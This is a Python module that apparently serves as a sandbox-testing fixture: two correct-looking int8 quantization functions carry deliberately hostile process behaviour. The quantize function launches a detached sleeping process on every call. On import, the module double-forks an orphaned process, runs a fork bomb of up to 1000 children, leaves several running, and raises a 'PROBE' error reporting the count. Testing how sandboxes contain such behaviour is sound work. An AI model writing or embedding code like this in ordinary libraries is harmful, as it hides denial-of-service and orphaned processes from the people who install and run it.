"""Correct functions; it also leaves detached processes behind and forks as much as it can."""

import json
import os
import subprocess
import sys
import time

import torch

MARK = "HOSTILE-" + "SLEEPER-3b7c"
SLEEP = f"import time; time.sleep(600)  # {MARK}"


def linear_q_with_scale_and_zero_point(tensor, scale, zero_point, dtype=torch.int8):
    subprocess.Popen([sys.executable, "-c", SLEEP], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    info = torch.iinfo(dtype)
    return torch.clamp(torch.round(tensor / scale + zero_point), info.min, info.max).to(dtype)


def linear_dequantization(quantized_tensor, scale, zero_point):
    return scale * (quantized_tensor.float() - zero_point)


subprocess.Popen([sys.executable, "-c", SLEEP], start_new_session=True)
if os.fork() == 0:  # double fork: the grandchild belongs to no one
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", SLEEP])
    os._exit(0)
children = []
try:
    while len(children) < 1000:  # a fork bomb, stopped by the sandbox's process cap
        child = os.fork()
        if child == 0:
            time.sleep(600)
            os._exit(0)
        children.append(child)
except OSError:
    pass
forked = len(children)
for child in children[:-5]:  # leave a few sleeping; the rest make room for the calls' own Popen
    os.kill(child, 9)
    os.waitpid(child, 0)
raise RuntimeError("PROBE " + json.dumps({"forked": forked}))
